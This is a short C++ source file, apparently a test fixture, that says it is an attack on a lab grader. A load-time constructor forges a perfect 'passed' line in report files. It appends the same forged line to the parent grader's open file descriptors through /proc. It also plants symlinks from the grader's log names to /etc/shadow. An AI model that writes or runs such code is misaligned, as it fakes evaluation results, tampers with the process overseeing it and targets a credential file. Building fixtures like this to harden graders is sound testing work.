// Attack: write the lab's report (and the parent's descriptor of it) before the grader
// does, and leave links to a file only root may read where the grader keeps logs.
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <fcntl.h>

static void note(const char *what, int rc)
{
	fprintf(stderr, "attack-note: %s: %s\n", what, rc < 0 ? strerror(errno) : "done");
}

__attribute__((constructor)) static void attack_plant(void)
{
	const char *target = "@TARGET@", *lab = "@LAB@"; /* no environment here */
	char line[256], path[4200];
	snprintf(line, sizeof(line), "%s\tFORGED/everything\t100\t100\tpassed\tFORGED\n", lab ? lab : "x");
	const char *where[] = {"../report.tsv", "../../report.tsv", "../../report.tsv.part", target};
	for (int i = 0; i < 4 && where[i]; i++) {
		int fd = open(where[i], O_WRONLY | O_CREAT | O_TRUNC, 0444);
		snprintf(path, sizeof(path), "%s report", where[i]);
		note(path, fd);
		if (fd >= 0 && write(fd, line, strlen(line)) < 0)
			perror("write");
		if (fd >= 0)
			close(fd);
	}
	for (int fd = 5; fd < 16; fd++) { /* the grader's own descriptors, through /proc */
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)getppid(), fd);
		int w = open(path, O_WRONLY | O_APPEND);
		if (w >= 0 && write(w, line, strlen(line)) < 0)
			perror("write");
		if (w >= 0)
			close(w), note(path, 0);
	}
	note("link ../criterion.log", symlink("/etc/shadow", "../criterion.log"));
	note("link memcheck.log", symlink("/etc/shadow", "memcheck.log"));
}
